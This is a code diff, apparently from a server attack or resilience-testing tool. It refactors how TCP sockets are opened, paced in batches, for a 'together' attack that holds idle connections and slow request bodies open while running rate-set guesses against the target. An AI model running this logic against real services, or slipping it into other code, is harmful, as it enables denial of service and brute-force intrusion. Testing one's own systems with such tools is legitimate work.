@@ -4,22 +4,35 @@ import { guesser } from './guesses.ts';
 import { lines } from './raw-request.ts';
 import type { Attack, Target } from './target.ts';
 
-const connectAtOnce = 200;
+const connectAtOnce = 100;
+
+const betweenConnectsMs = 100;
 
 async function openSockets({ host, port }: Target, count: number): Promise<Socket[]> {
+  const sockets = Array.from({ length: count }, () => {
+    const socket = connect(port, host);
+    socket.on('error', () => {});
+    // Reads and drops what comes, so that a close is seen.
+    return socket.resume();
+  });
+  await Promise.all(
+    sockets.map((socket) => new Promise((resolve) => socket.once('connect', resolve).once('close', resolve))),
+  );
+  return sockets;
+}
+
+/** A few at a time: the attack is that they stay. */
+async function openGradually(
+  target: Target,
+  count: number,
+  begin: (socket: Socket) => void = () => {},
+): Promise<Socket[]> {
   const sockets: Socket[] = [];
   while (sockets.length < count) {
-    const next = Array.from({ length: Math.min(connectAtOnce, count - sockets.length) }, () => {
-      const socket = connect(port, host);
-      socket.on('error', () => {});
-      // Reads and drops what comes, so that a close is seen.
-      socket.resume();
-      return socket;
-    });
+    const next = await openSockets(target, Math.min(connectAtOnce, count - sockets.length));
+    next.forEach(begin);
     sockets.push(...next);
-    await Promise.all(
-      next.map((socket) => new Promise((resolve) => socket.once('connect', resolve).once('close', resolve))),
-    );
+    await sleep(betweenConnectsMs);
   }
   return sockets;
 }
@@ -47,9 +60,8 @@ function trickle(sockets: readonly Socket[]): void {
 export const together: Attack = {
   name: 'together',
   async run(target, { together: { idleConnections, slowBodies, guessesPerSecond, seconds } }) {
-    const idle = await openSockets(target, idleConnections);
-    const slow = await openSockets(target, slowBodies);
-    for (const socket of slow) startBody(socket, target);
+    const idle = await openGradually(target, idleConnections);
+    const slow = await openGradually(target, slowBodies, (socket) => startBody(socket, target));
     const { guess } = await guesser(target);
     const verdicts: Promise<unknown>[] = [];
     for (let n = 0; n < guessesPerSecond * seconds; n += 1) {
